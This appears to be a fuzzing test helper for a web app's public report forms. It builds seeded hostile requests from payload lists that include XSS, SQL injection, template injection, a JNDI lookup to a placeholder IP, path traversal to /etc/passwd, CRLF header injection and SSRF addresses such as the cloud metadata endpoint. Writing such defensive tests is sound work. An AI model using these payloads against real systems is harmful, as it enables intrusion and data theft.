"""Submissions that nobody means well, drawn from a seed: scripts, sizes, encodings, addresses that trick, lies."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Final
from urllib.parse import quote

from lightkeeper.intake.public_reports import tickets

FORM: Final = "application/x-www-form-urlencoded"
MARK: Final = "zqxhostile"
"""Stands in every text, so that it can be looked for where it must not be."""

SCRIPTS: Final = (
    f"<script>{MARK}()</script>", f'"><img src=x onerror={MARK}()>', f"</textarea><script>{MARK}()</script>",
    f"<svg/onload={MARK}()>", f"'; DROP TABLE intake_publicreport; -- {MARK}", f"{{{{ settings.SECRET_KEY }}}}{MARK}",
    f"{{% include '/etc/passwd' %}}{MARK}", f"${{jndi:ldap://192.0.2.1/{MARK}}}", f"=HYPERLINK(\"x\";\"{MARK}\")",
    f"{MARK}\r\nSet-Cookie: a=b\r\n\r\n<h1>", f"%s%n%x{MARK}", f"../../../../etc/passwd {MARK}",
    f"<!--{MARK}--><base href=//x>",
)  # fmt: skip
UNSEEN: Final = (
    "\u202e", "\u2066", "\u2069", "\u200f", "\u200b", "\ufeff", "\x00", "\x1b[31m", "\x7f", "\x85", "\u2028",
    "\U000e0041", "\ud800", "\udfff", "\ufffe",
)  # fmt: skip
ADDRESSES: Final = (
    "javascript:alert(1)", "java\tscript:alert(1)", "JaVaScRiPt://a.example/%0aalert(1)", "data:text/html,<script>",
    "vbscript:x", "file:///etc/passwd", "gopher://a.example/", "http://", "https://///", "http://[::1", "http://[::1]/x",
    "http://0x7f.1/", "http://2130706433/", "http://127.0.0.1:22/", "http://169.254.169.254/latest/meta-data/",
    "http://a.example@b.example/", "http://user:pass@a.example:99999/", "http://a.example:-1/", "http:\\\\a.example\\x",
    "http://a.example/%00%0d%0aX: y", "http://xn--\u00fc.example/", "http://\u0430pple.example/", "http://\uff11\uff12\uff17.0.0.1/",
    "http://" + "a" * 300 + ".example/", "http://a.example/" + "b" * 5000, "http://a..example/", "//a.example/x",
    "http://a.example/\u202egnp.exe", "http://a.example/<script>", "ftp://a.example/", "about:blank", "blob:http://a.example/1",
    "a.example", "http://a.example?" + "x=1&" * 400, "HTTP://A.EXAMPLE:80/../../etc/passwd", "http://localhost/",
)  # fmt: skip
KINDS: Final = (
    "",
    "text/plain",
    "application/json",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    FORM + "; charset=utf-7",
)
QUERIES: Final = (
    "", "?lang=de", "?lang=<script>", "?lang=../../en", "?country=%00", "?country=GB%0d%0aSet-Cookie:x",
    "?lang=de&lang=en", "?" + "a=1&" * 2000,
)  # fmt: skip
LANGUAGES: Final = ("", "de-AT,de;q=0.9", "*", "x" * 4000, "en;q=nan,;;,q=", '"><script>', "de-" + "a-" * 500)
PATHS: Final = ("/report/adult/", "/report/child/", "/report/ticket/")


@dataclass(frozen=True, slots=True)
class Attempt:
    """One request."""

    path: str
    body: bytes
    kind: str = FORM
    headers: dict[str, str] = field(default_factory=dict)
    method: str = "post"


def attempts(count: int, seed: int) -> Iterator[Attempt]:
    """So many, the same for the same seed."""
    drawn = random.Random(seed)
    makers: tuple[Callable[[random.Random], Attempt], ...] = (
        _texts, _addresses, _unseen, _huge, _bytes, _shapes, _tokens, _ticket, _headers,
    )  # fmt: skip
    for number in range(count):
        yield makers[number % len(makers)](drawn)


def _form(drawn: random.Random, **fields: str) -> bytes:
    given = {
        "token": tickets.new_token(),
        "danger": drawn.choice(["no", "unsure", "yes", "no", "no"]),
        "seen_on": "website",
    }
    return _encoded({**given, **fields})


def _encoded(fields: dict[str, str]) -> bytes:
    return "&".join(
        f"{quote(name, safe='', errors='surrogatepass')}={quote(value, safe='', errors='surrogatepass')}"
        for name, value in fields.items()
    ).encode()


def _path(drawn: random.Random) -> str:
    return drawn.choice(PATHS[:2]) + drawn.choice(QUERIES)


def _texts(drawn: random.Random) -> Attempt:
    description = " ".join(drawn.choice(SCRIPTS) for _ in range(drawn.randrange(1, 6)))
    contact = drawn.choice(["", drawn.choice(SCRIPTS)])
    trap = drawn.choice(["", "", drawn.choice(SCRIPTS)])
    addresses = drawn.choice(["", f"https://a.example/{MARK}{drawn.randrange(99)}"])
    danger = drawn.choice(["no", "yes", MARK])
    fields = {"description": description, "contact": contact, "homepage": trap, "addresses": addresses}
    return Attempt(_path(drawn), _form(drawn, **fields, danger=danger))


def _addresses(drawn: random.Random) -> Attempt:
    lines = [drawn.choice(ADDRESSES) for _ in range(drawn.choice([1, 1, 1, 2, 30]))]
    return Attempt(_path(drawn), _form(drawn, addresses=drawn.choice(["\n", "\r\n", "\r", "\u2028"]).join(lines)))


def _unseen(drawn: random.Random) -> Attempt:
    letters = [*UNSEEN, *"abc \n", MARK]
    text = "".join(drawn.choice(letters) for _ in range(drawn.randrange(200)))
    address = "http://a" + drawn.choice(UNSEEN) + ".example/" + drawn.choice(UNSEEN) + MARK
    return Attempt(
        _path(drawn), _form(drawn, description=text, contact=text[:50], addresses=drawn.choice(["", address]))
    )


def _huge(drawn: random.Random) -> Attempt:
    size = drawn.choice([3999, 4000, 4001, 20_000, 70_000, 300_000])
    name = drawn.choice(["description", "addresses", "contact", "token", "seen_on", "danger", MARK])
    return Attempt(_path(drawn), _form(drawn, **{name: drawn.choice(["x", "\n", "\u00e9", "a.example\n"]) * size}))


def _bytes(drawn: random.Random) -> Attempt:
    noise = drawn.randbytes(drawn.randrange(2000))
    start = drawn.choice([b"", b"description=", b"addresses=%ff%fe%ed%a0%80", b"%", b"=&=&", b"token="])
    return Attempt(drawn.choice(PATHS), start + noise)


def _shapes(drawn: random.Random) -> Attempt:
    kind = drawn.choice(KINDS)
    picture = b'--x\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\n\r\n\xff\xd8\xff\r\n--x--\r\n'
    many = b"&".join(b"f%d=1" % number for number in range(drawn.choice([29, 31, 5000])))
    twice = b"danger=no&danger=yes&description=one&description=two"
    body = drawn.choice([b'{"a": 1}', picture, many, b"", b"description=" + b"%41" * 5000, twice])
    return Attempt(drawn.choice(PATHS), body, kind)


def _tokens(drawn: random.Random) -> Attempt:
    token = drawn.choice(
        ["", MARK, "A" * 48, "=" * 48, "\u00e9" * 10, tickets.new_token()[:-1], tickets.new_token() + "A"]
    )
    return Attempt(_path(drawn), _form(drawn, token=token, description=drawn.choice(SCRIPTS)))


def _ticket(drawn: random.Random) -> Attempt:
    text = drawn.choice(
        [*SCRIPTS, "A" * 26, "A" * 100_000, "\x00" * 26, tickets.written(drawn.randbytes(16)), "\u202e" * 26]
    )
    return Attempt("/report/ticket/" + drawn.choice(QUERIES), _encoded({"ticket": text}))


def _headers(drawn: random.Random) -> Attempt:
    headers = {
        "Accept-Language": drawn.choice(LANGUAGES),
        "X-Forwarded-For": drawn.choice(["", "127.0.0.1", "<script>", "x" * 2000]),
        "Sec-Fetch-Site": drawn.choice(["same-origin", "cross-site", MARK]),
        "Cookie": drawn.choice(["", "lightkeeper=" + MARK, "lightkeeper-csrf=x; a=b"]),
        "Origin": drawn.choice(["null", "https://elsewhere.example"]),
    }
    method = drawn.choice(["post", "post", "get", "head", "put", "delete", "options"])
    return Attempt(_path(drawn), _form(drawn, description=MARK), headers=headers, method=method)
